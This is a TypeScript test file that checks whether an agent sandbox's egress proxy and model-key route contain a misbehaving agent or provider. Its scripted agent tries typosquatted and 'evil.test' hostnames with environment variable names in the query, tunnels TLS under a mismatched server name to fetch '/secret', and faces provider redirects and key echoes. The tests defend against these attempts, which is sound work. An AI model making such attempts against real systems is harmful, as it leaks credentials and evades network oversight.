// Whole missions in which an agent goes where it must not, or its provider turns bad: what was refused stands where people
// look, in words that would allow it; the key is in no object; the ledger verifies.
import { createServer as createHttpServer } from 'node:http';
import { createServer as createTlsServer } from 'node:https';
import type { AddressInfo, Server } from 'node:net';
import { describe, expect, it, onTestFinished } from 'vitest';
import { openCells } from '../../../src/adapters/cells/open-cells.ts';
import { workRepositories } from '../../../src/adapters/git/work.ts';
import { refusedWords } from '../../../src/forge-text/status-words.ts';
import type { MissionState } from '../../../src/kernel/state.ts';
import { missionName } from '../../../src/kernel/values.ts';
import { missionRef } from '../../../src/ledger/names.ts';
import { onLoopback, passableScratch } from '../../support/cells.ts';
import { selfSignedCertificate } from '../../support/certificate.ts';
import { startModel } from '../../support/models/endpoint.ts';
import type { Turn } from '../../support/models/script.ts';
import { everyObject } from '../../support/repos.ts';
import { missionText } from '../../support/templates.ts';
import { taken } from '../../support/taken.ts';
import { eventsOf, running, tryToRun } from './running.ts';
import { approved, fileAtBranch, site, viewOf, type Site } from './setting.ts';

const KEY = 'sk-example-0123456789abcdef';
const LISTED = 'registry.example';

/** Goes through its listener by hand, as no client would, and does its work whatever came of that. */
const BY_HAND = String.raw`import net from 'node:net';
import tls from 'node:tls';
import { appendFileSync, chmodSync, mkdirSync, writeFileSync } from 'node:fs';
const open = () => net.connect(3128, '127.0.0.1');
const all = (stream, most = Infinity) => new Promise((done) => {
  let text = '';
  stream.on('data', (bytes) => { text += bytes.toString('latin1'); if (text.length > most) stream.destroy(); }).on('error', () => {}).on('close', () => done(text));
});
const ask = (method, url, body = '', most = Infinity) => {
  const socket = open();
  socket.write(method + ' ' + url + ' HTTP/1.1\r\nhost: x\r\nconnection: close\r\ncontent-type: application/json\r\ncontent-length: ' + body.length + '\r\n\r\n' + body);
  return all(socket, most);
};
const tunnel = (to, servername) => new Promise((done) => {
  const socket = open();
  socket.write('CONNECT ' + to + ' HTTP/1.1\r\nhost: ' + to + '\r\n\r\n');
  socket.on('error', () => done('closed'));
  socket.once('data', (answer) => {
    if (!answer.toString().startsWith('HTTP/1.1 200')) return done(answer.toString());
    const inner = tls.connect({ socket, servername, rejectUnauthorized: false }, () => inner.write('GET /secret HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n'));
    all(inner).then((text) => done(text || 'closed'));
  });
});
const model = (most) => ask('POST', '/_route/model/v1/chat/completions', '{"model":"m","stream":true,"messages":[{"role":"user","content":"hi"}],"tools":[{"type":"function","function":{"name":"x","parameters":{}}}]}', most);
const said = [];
mkdirSync('docs', { recursive: true });
DO
writeFileSync('src/greet.sh', '#!/bin/sh\necho "Hello, $' + '{1:-world}!"\n');
chmodSync('src/greet.sh', 0o755);
appendFileSync('docs/usage.md', '\nsh src/greet.sh greets.\n' + said.join('\n') + '\n');
`;

type Reaching = { readonly does: string; readonly port?: number; readonly origin?: string; readonly more?: string };

type Ended = {
  readonly at: Site;
  readonly mission: string;
  readonly end: NonNullable<MissionState['course']>['end'];
  /** What the agent heard, from its work; empty where none was taken. */
  readonly heard: string;
};

/** Runs it to its end, and holds what is true of every mission: nothing leaked, nothing lost, the ledger verifies. */
async function missionOf({ does, port = 1, origin = 'http://127.0.0.1:1', more = '' }: Reaching): Promise<Ended> {
  const agent = {
    command: ['/usr/bin/node', '/cell/home/agent/agent.mjs'],
    home: { 'agent.mjs': BY_HAND.replace('DO', () => does) },
    hosts: [{ host: LISTED, port, range: '127.0.0.0/8' }],
    routes: ['model'],
  };
  const route = `{ origin: '${origin}', range: 127.0.0.0/8, key: env:MODEL_KEY, allow: [POST /v1/chat/completions], usage: openai${more} }`;
  const rules = [
    '{ name: ask_model, actions: [credentialed_api_call], resources: [routes/model], answer: require_approval }',
    `{ name: ask_host, actions: [network_read], resources: ['hosts/${LISTED}:${port}'], answer: require_approval }`,
  ];
  const at = await site({
    policy: (text) =>
      text
        .replace(/^agents:$/m, () => `routes:\n  model: ${route}\nagents:\n  astray: ${JSON.stringify(agent)}`)
        .replace(/^rules:$/m, `rules:\n${rules.map((rule) => `  - ${rule}`).join('\n')}`),
  });
  const { mission } = await approved(at, missionText({ 'agent: example': 'agent: astray' }));
  const means = {
    ...(await running(at)),
    cells: await openCells({ folder: passableScratch(), repositories: workRepositories, listen: onLoopback }),
    secrets: { resolve: () => Promise.resolve(KEY) },
  };
  const { state } = taken(await tryToRun(at, mission, {}, { running: means }));
  const { end } = state.course!;
  expect(everyObject(at.folder)).not.toContain(KEY);
  const { report } = await at.bench.verify(missionRef(mission), 'full', { project: await at.bench.project() });
  expect(report.integrity).toEqual({ is: 'ok' });
  const isDone = end?.outcome === 'done';
  const heard = isDone ? fileAtBranch(at.folder, `lazarus-work/${missionName(mission)}/1`, 'docs/usage.md') : '';
  return { at, mission, end, heard };
}

const DONE = { outcome: 'done', because: 'verified' };

async function portOf(server: Server): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => void server.close());
  return (server.address() as AddressInfo).port;
}

describe('an agent that goes astray', () => {
  it('asks for a host by names that look like a listed one: each is another, and stands in the status', async () => {
    const asked: string[] = [];
    const port = await portOf(
      createHttpServer(({ url, headers }, response) => {
        asked.push(`${headers.host} ${url}`);
        response.end('a package');
      }),
    );
    const names = ['registry.exarnple', `${LISTED}.evil.test`, `x${LISTED}`, 'registry-example', `${LISTED}.`];
    const does = `for (const name of ${JSON.stringify([...names, LISTED])}) said.push(name, await ask('GET', 'http://' + name + ':${port}/?' + Object.keys(process.env).join()));
said.push(await ask('GET', 'http://${LISTED}:${port + 1}/'));`;
    const { at, mission, end, heard } = await missionOf({ does, port });
    expect(end).toEqual(DONE);
    expect(asked).toEqual([expect.stringMatching(new RegExp(`^${LISTED}:${port} /\\?`))]);
    expect(heard.match(/^HTTP\/1\.1 \d+/gm)).toEqual([
      'HTTP/1.1 403',
      'HTTP/1.1 403',
      'HTTP/1.1 403',
      'HTTP/1.1 403',
      // Not even a name: with a dot at its end it is another to some programs, and the same to others.
      'HTTP/1.1 400',
      'HTTP/1.1 200',
      'HTTP/1.1 403',
    ]);
    const { refused } = await viewOf(at, mission);
    const allowing = (name: string): string => `policy could allow it: hosts: ["${name}"]`;
    const others = [...names.slice(0, 4).map((name) => `${name}:${port}`), `${LISTED}:${port + 1}`];
    expect(refused.map(refusedWords).toSorted()).toEqual(
      [
        ...others.map((name) => `${name} (host_not_listed); ${allowing(name)}`),
        'unnamed (name_malformed); it named no host in one plain spelling',
      ].toSorted(),
    );
  });

  it('tunnels to a listed host under the name of another: nothing arrives', async () => {
    const arrived: string[] = [];
    const server = createTlsServer(selfSignedCertificate([LISTED]), ({ url }, response) => {
      arrived.push(url!);
      response.end('from the listed host');
    });
    const port = await portOf(server);
    const to = `'${LISTED}:${port}'`;
    const does = `said.push('other: ' + await tunnel(${to}, 'evil.test'), 'own: ' + await tunnel(${to}, '${LISTED}'));`;
    const { at, mission, end, heard } = await missionOf({ does, port });
    expect(end).toEqual(DONE);
    expect(heard).toMatch(/other: closed\nown: HTTP\/1\.1 200 OK\r?\n/);
    expect(arrived).toEqual(['/secret']);
    // Policy lists it: to say that it could allow it would send people the wrong way.
    expect((await viewOf(at, mission)).refused.map(refusedWords)).toEqual([
      `${LISTED}:${port} (other_server_name); its TLS asked for another host`,
    ]);
  });
});

describe('a provider', () => {
  async function withProvider(script: readonly Turn[], changes: Partial<Reaching> = {}): Promise<Ended> {
    const model = await startModel({ key: KEY, script });
    onTestFinished(model.close);
    const ended = await missionOf({ does: 'said.push(await model());', origin: model.origin, ...changes });
    expect(model.asked.map(({ key }) => key)).toEqual(script.map(() => 'right'));
    return ended;
  }

  it('that redirects is not followed: nobody else is sent the key', async () => {
    let strangers = 0;
    const port = await portOf(createHttpServer((_, response) => void ((strangers += 1), response.end())));
    const { end, heard } = await withProvider([{ redirect: `http://127.0.0.1:${port}/v1/chat/completions` }]);
    expect(end).toEqual(DONE);
    expect(heard).toContain('HTTP/1.1 502');
    expect(strangers).toBe(0);
  });

  it('that streams for ever is cut where its tokens end, and the mission says why and what to do', async () => {
    // The agent hangs up, and asks again: what it heard counts, though nobody said what it cost.
    const does = 'await model(100_000); await model(); await new Promise((over) => setTimeout(over, 60_000));';
    const { at, mission, end } = await withProvider([{ endless: 'on and on ' }], { does, more: ', max_tokens: 2000' });
    expect(end).toEqual({ outcome: 'failed', because: 'route_exhausted' });
    const [closed] = await eventsOf(at, mission, 'cell.closed');
    expect(closed!.payload).toMatchObject({ because: 'route_limit', spent: [{ route: 'model', calls: 1 }] });
    expect((await viewOf(at, mission)).because).toMatchObject({
      code: 'route_exhausted',
      next: expect.stringMatching(/max_tokens|policy/),
    });
  });

  it('that gives the key back, in a header, in its text, encoded or as an error, gives it to nobody', async () => {
    const turns = (['header', 'text', 'base64', 'error'] as const).map((echo) => ({ echo }));
    const does = 'for (let n = 0; n < 4; n++) said.push(await model());';
    const { end, heard } = await withProvider(turns, { does });
    expect(end).toEqual(DONE);
    expect(heard.match(/^HTTP\/1\.1 \d+/gm)).toEqual([200, 200, 200, 401].map((status) => `HTTP/1.1 ${status}`));
    expect(heard.match(/\*\*\*REDACTED\*\*\*/g)).toHaveLength(4);
    expect(heard).not.toContain(Buffer.from(KEY).toString('base64').slice(4, 24));
  });
});
